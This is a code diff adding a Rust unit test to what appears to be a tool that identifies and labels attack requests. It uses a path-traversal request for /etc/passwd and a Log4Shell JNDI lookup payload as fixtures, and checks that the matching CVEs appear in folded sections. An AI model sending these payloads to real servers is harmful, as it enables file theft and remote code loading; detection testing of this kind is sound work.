@@ -137,6 +137,27 @@ mod tests {
     }
 
     #[test]
+    fn what_else_fits_and_what_is_quoted_is_folded() {
+        let folds = |raw: &'static [u8], summary: &str| {
+            let page = page("", raw);
+            let (before, behind) = page.split_once(summary).unwrap_or_else(|| panic!("{page}"));
+            let (folded, rest) = behind.split_once("</details>").unwrap();
+            assert!(before.ends_with("<details><summary>"), "{before}");
+            (before.to_owned(), folded.to_owned(), rest.to_owned())
+        };
+        let raw = b"GET /static/../../../../etc/passwd HTTP/1.1\r\n\r\n";
+        let (before, folded, rest) = folds(raw, "Also fits: ");
+        assert!(before.contains("CVE-2017-14849"), "{before}");
+        assert!(folded.contains("CVE-2024-23334"), "{folded}");
+        assert!(!before.contains("CVE-2024-23334") && !rest.contains("CVE-2024-23334"));
+        let raw =
+            b"POST / HTTP/1.1\r\nX-Hub-Signature-256: x\r\n\r\n{\"a\":\"${jndi:ldap://b/c}\"}";
+        let (before, folded, _) = folds(raw, "Quotes: ");
+        assert!(!before.contains("Log4Shell"), "{before}");
+        assert!(folded.contains("Log4Shell"), "{folded}");
+    }
+
+    #[test]
     fn what_http2_asks_for_is_told_unless_it_is_hidden() {
         let raw = include_bytes!("../bytes/http2/curl.bin");
         let open = page("", raw);
